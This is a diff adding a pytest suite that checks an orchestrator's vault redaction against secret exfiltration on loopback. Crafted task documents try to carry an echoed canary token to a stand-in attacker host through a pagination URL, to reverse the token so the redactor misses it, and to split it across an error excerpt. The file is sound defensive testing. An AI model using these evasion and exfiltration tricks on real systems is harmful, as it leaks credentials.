@@ -1,0 +1,151 @@
+"""Secret exfiltration attempts on loopback, through ``orchestrator run``: a document tries to
+turn a server's echo of a secret into something the redactor does not know, or to carry it to a
+host the secret is not bound to. The secret is bound to 127.0.0.1; ``localhost`` (the same
+server under another name) plays the attacker's host.
+
+Each test checks that the attacker's host received nothing carrying the secret, and that the
+secret (and the transform the document asked for) appears nowhere in the run's answers or in
+the data folder.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from local_server import LocalServer
+
+from vault.store import Vault
+
+REPO = Path(__file__).resolve().parent.parent
+SECRET = "sk-canary-4c1d9e07b2a8f653"
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[LocalServer]:
+    with LocalServer() as running:
+        yield running
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    vault = Vault.open(home / "vault.db")
+    vault.set("TOKEN", SECRET, allowed_hosts=["127.0.0.1"])
+    vault.close()
+    return home
+
+
+def run(home: Path, document: str) -> tuple[dict[str, Any], str]:
+    path = home.parent / "attack.yaml"
+    path.write_text(document, encoding="utf-8")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("ORCHESTRATOR_")}
+    env["ORCHESTRATOR_HOME"] = str(home)
+    done = subprocess.run(
+        [sys.executable, "-m", "server.cli", "run", str(path), "--json"],
+        cwd=REPO,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert "Traceback" not in done.stderr, done.stderr
+    return json.loads(done.stdout), done.stdout + done.stderr
+
+
+def assert_nowhere(home: Path, shown: str, *forms: str) -> None:
+    for form in (SECRET, *forms):
+        assert form not in shown, f"{form!r} in the CLI's output"
+        for path in (p for p in home.rglob("*") if p.is_file()):
+            assert form.encode() not in path.read_bytes(), f"{form!r} in {path}"
+
+
+def attacker_saw(server: LocalServer) -> list[dict[str, Any]]:
+    return [r for r in server.state.requests if r["host"] == "localhost" and SECRET in str(r)]
+
+
+def test_paginate_next_cannot_carry_an_echoed_secret_to_another_host(
+    home: Path, server: LocalServer
+) -> None:
+    # page 1 goes to the allowed host with the secret in its query; the server echoes the query,
+    # and paginate.next builds the next page's URL on the attacker's host from that echo
+    steal = f"join('', ['{server.url(host='localhost')}/echo?stolen=', query.key || 'none'])"
+    results, shown = run(
+        home,
+        f"""
+tasks:
+  - id: pages
+    type: http
+    config:
+      url: "{server.url()}/echo"
+      params: {{key: "${{vault.TOKEN}}"}}
+      paginate: {{items: "[query]", next: "{steal}", max_pages: 2}}
+""",
+    )
+    assert attacker_saw(server) == []
+    assert results["tasks"]["pages"]["state"] == "succeeded", results["tasks"]["pages"]
+    assert_nowhere(home, shown)
+
+
+def test_extract_cannot_transform_an_echoed_secret(home: Path, server: LocalServer) -> None:
+    results, shown = run(
+        home,
+        f"""
+tasks:
+  - id: echo
+    type: http
+    config:
+      url: "{server.url()}/echo"
+      auth: {{type: bearer, token: "${{vault.TOKEN}}"}}
+      extract: "reverse(headers.authorization)"
+""",
+    )
+    assert results["tasks"]["echo"]["output"]["data"] == "*** reraeB"
+    assert_nowhere(home, shown, SECRET[::-1], SECRET[::-1][:12])
+
+
+def test_a_bytes_artifact_holds_no_echoed_secret(home: Path, server: LocalServer) -> None:
+    results, shown = run(
+        home,
+        f"""
+tasks:
+  - id: download
+    type: http
+    config:
+      url: "{server.url()}/echo"
+      params: {{key: "${{vault.TOKEN}}"}}
+      response: bytes
+""",
+    )
+    task = results["tasks"]["download"]
+    assert task["state"] == "succeeded", task
+    artifacts = list(home.rglob("artifacts/*"))
+    assert artifacts and b'"key":"***"' in artifacts[0].read_bytes()
+    assert_nowhere(home, shown)
+
+
+def test_an_error_excerpt_holds_no_part_of_an_echoed_secret(
+    home: Path, server: LocalServer
+) -> None:
+    # padding puts the secret across the 200-character cut of the error's body excerpt
+    for pad in range(120, 150, 6):
+        results, shown = run(
+            home,
+            f"""
+tasks:
+  - id: echo
+    type: http
+    config:
+      url: "{server.url()}/echo"
+      params: {{pad: "{"x" * pad}", key: "${{vault.TOKEN}}"}}
+      expect_status: [201]
+""",
+        )
+        assert results["tasks"]["echo"]["state"] == "failed"
+        assert_nowhere(home, shown, SECRET[:8], SECRET[-8:])
